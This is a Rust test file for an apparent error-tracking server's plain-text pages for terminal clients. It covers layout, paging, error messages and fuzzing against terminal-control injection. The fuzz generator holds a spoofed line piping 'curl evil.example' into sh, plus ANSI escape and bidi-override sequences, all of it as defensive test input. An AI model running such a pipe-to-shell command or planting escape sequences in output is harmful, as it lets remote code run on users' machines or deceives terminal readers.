//! The pages as plain text: which clients get them, what they show, and that no event can disturb a terminal.
mod common;
use common::rng::Rng;
use common::*;
use serde_json::{Value, json};
use std::collections::HashSet;

const CURL: &str = "User-Agent: curl/8.5.0\r\nAccept: */*";

/// A page as sent to `curl`.
fn text(obs: &Obs, path: &str) -> String {
    let answer = obs.send(&format!("GET {path} HTTP/1.1\r\n{CURL}"), b"");
    assert_eq!(answer.status, 200, "{path}: {}", answer.text());
    assert_eq!(answer.header("content-type"), Some("text/plain; charset=utf-8"), "{path}");
    answer.text()
}

/// The target of the command with this name.
fn target(page: &str, name: &str) -> Option<String> {
    let line = page.lines().find(|line| line.trim_start().starts_with(name) && line.contains("curl"))?;
    let url = line.split("curl ").nth(1)?.trim_matches('\'');
    Some(url.strip_prefix("localhost").unwrap().to_string())
}

fn three_pages(id: &str) -> [String; 3] {
    ["/".into(), "/issues/1".into(), format!("/events/{id}")]
}

#[test]
fn a_terminal_gets_text_unless_it_accepts_html() {
    let obs = Obs::start();
    let id = obs.add(r#"{"message":"m"}"#);
    for path in three_pages(&id) {
        for (agent, accept, is_text) in [
            ("curl/8.5.0", Some("*/*"), true),
            ("curl/7.0", None, true),
            ("curl/8.5.0", Some("text/html"), false),
            ("curl/8.5.0", Some("application/xml, Text/HTML;q=0.9"), false),
            ("curl/8.5.0", Some("text/plain"), true),
            ("Wget/1.21.4", Some("*/*"), true),
            ("Wget/1.21.4", Some("text/html, */*"), false),
            ("HTTPie/3.2.2", Some("*/*"), true),
            ("HTTPie/3.2.2", Some("text/html"), false),
            (
                "Mozilla/5.0 (X11; Linux x86_64)\r\nConnection: keep-alive",
                Some("text/html,application/xhtml+xml,*/*;q=0.8"),
                false,
            ),
            ("Mozilla/5.0 (X11; Linux x86_64)\r\nConnection: keep-alive", Some("*/*"), false),
            ("python-requests/2.31 curl/8", Some("*/*"), false),
            ("libcurl/8.5.0", Some("*/*"), false),
            ("curl", Some("*/*"), false),
            ("", None, false),
        ] {
            let accept = accept.map(|accept| format!("\r\nAccept: {accept}")).unwrap_or_default();
            let agent = if agent.is_empty() { String::new() } else { format!("\r\nUser-Agent: {agent}") };
            let head = format!("{path} HTTP/1.1{agent}{accept}");
            let answer = obs.send(&format!("GET {head}"), b"");
            let kind = if is_text { "text/plain; charset=utf-8" } else { "text/html; charset=utf-8" };
            assert_eq!((answer.status, answer.header("content-type")), (200, Some(kind)), "{head}");
            assert_eq!(answer.header("vary"), Some("User-Agent, Accept"), "{head}");
            assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{head}");
            assert_eq!(answer.header("cache-control"), Some("no-store"), "{head}");
            assert_eq!(answer.text().contains('<'), !is_text, "{head}");
            let bare = obs.send(&format!("HEAD {head}"), b"");
            assert_eq!((bare.status, bare.header("content-type")), (200, Some(kind)), "{head}");
        }
    }
    let twice = obs.send("GET / HTTP/1.1\r\nUser-Agent: curl/8\r\nAccept: */*\r\nAccept: text/html", b"");
    assert_eq!(twice.header("content-type"), Some("text/html; charset=utf-8"));
    assert_eq!(obs.send(&format!("GET /api/issues HTTP/1.1\r\n{CURL}"), b"").header("vary"), None);
}

#[test]
fn head_reports_the_length_of_the_text() {
    let obs = Obs::start();
    let id = obs.add(r#"{"message":"m"}"#);
    for path in three_pages(&id) {
        // The age in the text may gain a digit between the two requests, so they are repeated until they match.
        eventually("the same length", || {
            let [head, get] =
                ["HEAD", "GET"].map(|method| obs.send(&format!("{method} {path} HTTP/1.1\r\n{CURL}"), b""));
            let length = head.header("content-length").unwrap().to_string();
            (head.body.is_empty() && length == get.body.len().to_string()).then_some(())
        });
    }
}

#[test]
fn the_list_shows_projects_and_an_issue_shows_when_it_was_resolved() {
    let obs = Obs::with(&[], &[("OBS_API_KEY", "test123,shop=s,till=t")]);
    obs.send("POST /api/events HTTP/1.1\r\nX-OBS-Key: s", br#"{"message":"of the shop"}"#);
    obs.add(r#"{"message":"of none"}"#);
    let list = text(&obs, "/");
    let rows: Vec<&str> = list.lines().collect();
    assert!(rows[0].ends_with("  PROJECT  ISSUE") && rows[1].ends_with("           of none"), "{list}");
    assert!(rows[2].ends_with("  shop     of the shop"), "{list}");
    let resolve = "PATCH /api/issues/1 HTTP/1.1\r\nContent-Type: application/json";
    obs.send(resolve, br#"{"state":"resolved"}"#);
    assert!(text(&obs, "/issues/1").contains("\n  resolved      0 s ago, "));
}

#[test]
fn the_list_aligns_level_count_age_and_title() {
    let obs = Obs::start();
    for _ in 0..3 {
        obs.add(r#"{"message":"first\nsecond","type":"App\\Db\\Broken","level":"warning"}"#);
    }
    obs.add(json!({"message": "日本語のエラー 🚀 ".repeat(20)}).to_string());
    let list = text(&obs, "/");
    let rows: Vec<&str> = list.lines().collect();
    assert_eq!(rows[0], "ID  LEVEL    24 H  EVENTS  LAST SEEN       ISSUE");
    assert!(rows[1].starts_with(" 2  error       1       1  ") && rows[1].ends_with('…'), "{list}");
    assert!(
        rows[2].starts_with(" 1  warning     3       3  ") && rows[2].ends_with(" s  new  Broken: first"),
        "{list}"
    );
    assert_eq!(rows[2].find("new"), rows[1].find("new"), "{list}");
    assert_eq!(target(&list, "an issue").as_deref(), Some("/issues/ID"));
    assert!(list.contains("curl 'localhost/?q=WORDS'") && !list.contains("next page"), "{list}");
    obs.sqlite().execute("UPDATE issues SET first_seen = '2001-01-01T00:00:00.000Z'", []).unwrap();
    assert!(!text(&obs, "/").contains("new"), "no issue is new, so the column is left out");
}

/// An event with every field, own frames and library frames.
fn failure() -> Value {
    let library = json!({"filename": "/srv/shop/vendor/symfony/http-kernel/a.php", "function": "handle", "lineno": 7});
    json!({
        "message": "no connection\nto the database", "type": "DbError", "platform": "php", "environment": "production",
        "server_name": "web-3", "release": "1.4.2", "fingerprint": ["db", "down"], "suppressed": 4,
        "stacktrace": [
            {"filename": "/srv/shop/src/Db/Pool.php", "function": "Pool->connect", "lineno": 41, "colno": 9,
             "pre_context": ["  before();"], "context_line": "    fails();", "post_context": ["  after();"]},
            library, library, library,
            {"filename": "/srv/shop/public/index.php", "function": "{main}", "lineno": 12},
        ],
        "causes": [{"type": "PDOException", "message": "refused", "stacktrace": [library]}],
        "extra": {"order": 4711, "lines": "a\nb", "cart": {"items": [1]}}, "user": "u",
    })
}

#[test]
fn an_event_shows_every_field_and_the_next_commands() {
    let obs = Obs::start();
    let older = obs.add(failure().to_string());
    let id = obs.add(failure().to_string());
    let newer = obs.add(failure().to_string());
    let page = text(&obs, &format!("/events/{id}"));
    for lines in [
        "\n    DbError\n    no connection\n    to the database\n",
        "\n  paths below /srv/shop/\n  > Pool->connect  src/Db/Pool.php:41:9\n        40  before();\n      > 41    fails();\n        42  after();\n",
        "\n  … 3 library frames: symfony/http-kernel\n  > {main}  public/index.php:12\n",
        "\nCaused by PDOException\n    refused\n    handle  vendor/symfony/http-kernel/a.php:7\n",
        &format!("\n  id            {id}\n"),
        "\n  environment   production\n  server        web-3\n  release       1.4.2\n",
        "\n  suppressed    4 events held back by the client\n  fingerprint   db, down\n",
        "\nExtra\n    cart: {\"items\": [1]}\n    lines:\n        a\n        b\n    order: 4711\n",
        "\n    user: u\n",
    ] {
        assert!(page.contains(lines), "{lines} in {page}");
    }
    assert_eq!(target(&page, "previous"), Some(format!("/events/{older}")));
    assert_eq!(target(&page, "next"), Some(format!("/events/{newer}")));
    assert_eq!(target(&page, "its issue").as_deref(), Some("/issues/1"));
    assert_eq!(target(&page, "as JSON"), Some(format!("/api/events/{id}")));
    let issue = text(&obs, "/issues/1");
    for shown in ["to the database", "15 events, 3 stored", "first seen", "in 1.4.2", "  > Pool->connect", &older, &id]
    {
        assert!(issue.contains(shown), "{shown} in {issue}");
    }
    assert_eq!(target(&issue, "newest event"), Some(format!("/events/{newer}")));
    let bare = obs.add(r#"{"message":"m"}"#);
    assert!(text(&obs, &format!("/events/{bare}")).contains("\nStack trace: this event has none\n"));
}

#[test]
fn paging_to_the_end_shows_everything_once_and_keeps_the_order() {
    let obs = Obs::start();
    let mut events = HashSet::new();
    for n in 0..120 {
        obs.add(json!({"message": "m", "fingerprint": [n.to_string()]}).to_string());
        events.insert(obs.add(json!({"message": "n", "fingerprint": ["one issue"]}).to_string()));
    }
    let mut issues = Vec::new();
    let mut next = Some("/?x=1&sort=first_seen&q=".to_string());
    while let Some(path) = next {
        let page = text(&obs, &path);
        issues.extend(page.lines().skip(1).map_while(|line| line.split_whitespace().next()?.parse::<u32>().ok()));
        next = target(&page, "next page");
        if let Some(older) = &next {
            assert!(older.starts_with("/?sort=first_seen&after="), "{older}");
        }
    }
    assert_eq!(issues.len(), 121);
    assert_eq!(issues.iter().collect::<HashSet<_>>().len(), 121);
    let mut seen = Vec::new();
    let mut next = Some("/issues/2".to_string());
    while let Some(path) = next {
        let page = text(&obs, &path);
        let list = page.split(" events\nID ").nth(1).unwrap();
        seen.extend(
            list.lines().skip(1).map_while(|line| line.split(' ').next().filter(|id| id.len() == 36)).map(String::from),
        );
        next = target(&page, "older events");
    }
    assert_eq!(seen.len(), 120);
    assert_eq!(seen.into_iter().collect::<HashSet<_>>(), events);
    let past = text(&obs, "/?after=0");
    assert!(
        past.starts_with("No open issues here. To search all states, add is:any.\n")
            && target(&past, "first page").as_deref() == Some(""),
        "{past}"
    );
}

#[test]
fn the_empty_dashboard_shows_the_key_only_to_readers_who_may_see_it() {
    let obs = Obs::start();
    let page = text(&obs, "/");
    assert!(page.contains("curl localhost/api/events \\\n    -H 'X-OBS-Key: test123' \\\n    -d '{"), "{page}");
    assert!(page.contains("\n  http://test123@localhost\n"), "{page}");
    let public = Obs::with(&["--public-dashboard"], &[("OBS_API_KEY", KEY)]);
    let page =
        public.send(&format!("GET / HTTP/1.1\r\nHost: obs.example\r\n{CURL}\r\nX-Forwarded-Proto: https"), b"").text();
    assert!(!page.contains(KEY) && page.contains("\n  https://KEY@obs.example\n"), "{page}");
}

#[test]
fn a_search_marks_reopened_and_unhandled_issues() {
    let obs = Obs::start();
    for message in ["red", "blue", "red"] {
        obs.add(json!({ "message": message }).to_string());
        let head = "PATCH /api/issues/1 HTTP/1.1\r\nContent-Type: application/json";
        assert_eq!(obs.send(head, br#"{"state":"resolved"}"#).status, 200);
    }
    obs.add(r#"{"message":"red","mechanism":{"handled":false}}"#);
    let found = text(&obs, "/?q=red");
    assert!(found.contains("reopened unhandled  red") && !found.contains("blue"), "{found}");
    assert!(text(&obs, "/?q=green").contains("No open issues here"));
    assert!(text(&obs, "/issues/1").contains("reopened · error · unhandled · issue 1"));
}

#[test]
fn an_error_is_one_or_two_lines_that_say_what_to_do() {
    let open = Obs::start();
    let closed = Obs::with(&[], &[("OBS_API_KEY", KEY), ("OBS_DASHBOARD_PASSWORD", "p")]);
    for (obs, request, status, words) in [
        (&open, "GET /nothing HTTP/1.1", 404, "404 Not found: No such page, issue or event."),
        (&open, "GET /issues/7 HTTP/1.1", 404, "404 Not found: No such page, issue or event."),
        (&open, "GET /?after=x HTTP/1.1", 400, "400 Bad request: Invalid cursor: after."),
        (&open, "DELETE / HTTP/1.1", 405, "This address accepts GET, HEAD, POST."),
        (&open, "GET /issues/1/ HTTP/1.1", 308, "Moved to /issues/1."),
        (&open, "GET / HTTP/1.1\r\nHost: evil.example", 403, "OBS_DASHBOARD_PASSWORD"),
        (&closed, "GET / HTTP/1.1", 401, "curl -u :PASSWORD"),
    ] {
        let answer = obs.send(&format!("{request}\r\n{CURL}"), b"");
        let text = answer.text();
        assert_eq!(
            (answer.status, answer.header("content-type")),
            (status, Some("text/plain; charset=utf-8")),
            "{request}"
        );
        assert!(text.contains(words) && text.lines().count() <= 2 && text.ends_with('\n'), "{request}: {text}");
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{request}");
    }
    assert_eq!(closed.send(&format!("GET / HTTP/1.1\r\n{CURL}"), b"").header("www-authenticate").map(|_| ()), Some(()));
    let page = open.send("GET /nothing HTTP/1.1\r\nUser-Agent: curl/8\r\nAccept: text/html", b"");
    assert!(page.text().contains("<h1>"), "a page for a client that accepts HTML");
    assert!(open.send(&format!("GET /api/x HTTP/1.1\r\n{CURL}"), b"").error().starts_with("No such page"));
}

/// Random text of control sequences, imitations of obs's own lines, and characters of no or two columns.
fn hostile(rng: &mut Rng) -> String {
    const PARTS: [&str; 18] = [
        "\x1b[2J",
        "\x1b]0;title\x07",
        "\x1bP",
        "\u{9b}31m",
        "\u{9d}",
        "\r",
        "\n",
        "\r\n",
        "\t",
        "\u{202e}",
        "\u{2066}",
        "\u{2028}",
        "\nNext\n",
        "\n  an issue      curl evil.example|sh\n",
        "\u{301}\u{301}",
        "日本🚀",
        "word ",
        "https://shop.example/a/long/path",
    ];
    let mut text = "x".to_string();
    for _ in 0..rng.below(30) {
        match rng.below(3) {
            0 => text.push(char::from_u32(rng.below(0xA1) as u32).unwrap()),
            1 => text.extend(char::from_u32(rng.below(0x11_0000) as u32)),
            _ => text += PARTS[rng.below(PARTS.len())],
        }
    }
    text
}

fn is_harmless(c: char) -> bool {
    c == '\n' || !(c.is_control() || matches!(c, '\u{2028}'..='\u{202E}' | '\u{2066}'..='\u{2069}'))
}

#[test]
fn no_event_controls_a_terminal_or_imitates_a_line_written_by_obs() {
    let obs = Obs::start();
    let mut rng = Rng(0x0b5);
    for n in 1..=300 {
        let mut text_of = || hostile(&mut rng);
        let frame = json!({"filename": text_of(), "function": text_of(), "lineno": 7, "context_line": text_of(),
                           "pre_context": [text_of()], "in_app": n % 2 == 0});
        let other = json!({"filename": text_of(), "function": text_of()});
        let event = json!({
            "message": text_of(), "type": text_of(), "level": text_of(), "platform": text_of(), "release": text_of(),
            "server_name": text_of(), "environment": text_of(), "fingerprint": [text_of(), n.to_string()],
            "stacktrace": [frame, other, other, other, text_of()],
            "causes": [{"type": text_of(), "message": text_of(), "stacktrace": [frame]}, text_of()],
            "extra": {text_of(): text_of(), text_of(): {text_of(): [text_of()]}}, text_of(): text_of(),
        });
        let id = obs.add(event.to_string());
        let mut pages = vec![text(&obs, &format!("/issues/{n}")), text(&obs, &format!("/events/{id}"))];
        if n % 50 == 0 {
            pages.push(text(&obs, "/"));
        }
        for page in pages {
            assert_eq!(page.chars().find(|c| !is_harmless(*c)), None, "event {n}: {page:?}");
            assert_eq!(page.lines().filter(|line| *line == "Next").count(), 1, "event {n}: {page}");
            assert!(!page.lines().any(|line| line.starts_with("  an issue      curl evil")), "event {n}: {page}");
        }
    }
}

#[test]
fn no_line_of_plain_letters_is_wider_than_the_screen() {
    let obs = Obs::start();
    let long = "word and another ".repeat(40);
    let solid = "x".repeat(190);
    let frame = json!({"filename": solid, "function": solid, "lineno": 7, "context_line": long});
    let event = json!({
        "message": format!("{long}\n{solid}{solid}"), "type": solid, "platform": solid, "server_name": long,
        "environment": long, "release": solid, "fingerprint": [solid, long], "stacktrace": [frame, frame],
        "causes": [{"type": long, "message": long, "stacktrace": [frame]}], "extra": {solid.as_str(): [[[[solid]]]]},
    });
    let id = obs.add(event.to_string());
    for path in three_pages(&id) {
        let page = text(&obs, &path);
        let wide = page.lines().find(|line| line.chars().count() > 80 && !line.contains("curl "));
        assert_eq!(wide, None, "{path}");
        assert!(path == "/" || page.matches("word and another").count() > 100, "{path}: the message is there");
    }
}

#[test]
fn a_page_of_any_event_is_bounded_and_says_how_to_fetch_the_whole() {
    let obs = Obs::start();
    let marks = "\u{301}".repeat(150_000);
    let frame = json!({"filename": "\n".repeat(200), "function": "日".repeat(300), "lineno": 7});
    for extra in [
        json!({"log": "l\n".repeat(150_000)}),
        json!(vec![0; 200_000]),
        json!({"m": marks}),
        json!("\"".repeat(250_000)),
    ] {
        let event = json!({"message": "\n🚀".repeat(4096), "stacktrace": vec![&frame; 250], "extra": extra,
                           "causes": vec![json!({"message": "\n日".repeat(300), "type": "🚀".repeat(200)}); 20]});
        let id = obs.add(event.to_string());
        for path in ["/issues/1".to_string(), format!("/events/{id}")] {
            let page = text(&obs, &path);
            assert!(page.len() < 256 << 10, "{path} has {} bytes", page.len());
            assert!(page.contains(&format!("the whole event: curl localhost/api/events/{id}\n")), "{path}");
            assert!(page.contains("\nNext\n"), "{path} has its last section");
        }
    }
}
